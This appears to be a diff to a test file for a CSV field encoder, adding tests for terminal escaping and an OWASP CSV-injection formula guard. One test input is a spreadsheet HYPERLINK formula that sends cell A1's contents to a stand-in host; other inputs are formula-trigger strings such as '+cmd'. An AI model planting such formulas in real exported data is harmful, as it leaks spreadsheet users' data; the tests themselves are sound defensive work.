@@ -15,9 +15,31 @@ describe("csvField", () => {
     expect(csvField("a\u001b[2Jb\u009b\tc")).toBe("a\\u001b[2Jb\\u009b\tc");
   });
 
-  it("writes values as they are: no formula guard that would change the data", () => {
-    expect(csvField("=1+1")).toBe("=1+1");
-    expect(csvField("-5")).toBe("-5");
+  it("shows CR and LF inside a field as \\r and \\n on a terminal, where a raw CR would overwrite the line", () => {
+    expect(csvField("a\r\nb,c", { tty: true })).toBe('"a\\r\\nb,c"');
+    expect(csvField("a\r\nb,c", { tty: false })).toBe('"a\r\nb,c"');
+  });
+
+  it("escapes bidi overrides and other format characters in a file too", () => {
+    expect(csvField("a\u202eb\u200bc")).toBe("a\\u202eb\\u200bc");
+  });
+});
+
+describe("formula guard (OWASP CSV injection)", () => {
+  it("prefixes a ' to a cell a spreadsheet would run as a formula: = + - @, tab, CR and their full-width forms", () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    expect(csvField("+cmd")).toBe("'+cmd");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    expect(csvField("\uff1d1+1")).toBe("'\uff1d1+1");
+  });
+
+  it("leaves numbers, whatever their sign, and text with a formula character inside it as they are", () => {
+    for (const number of ["-5", "+1.5e3", "-0.25", "-.5", "3", "1E-7"]) expect(csvField(number)).toBe(number);
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField("mail.example.com")).toBe("mail.example.com");
   });
 });
 
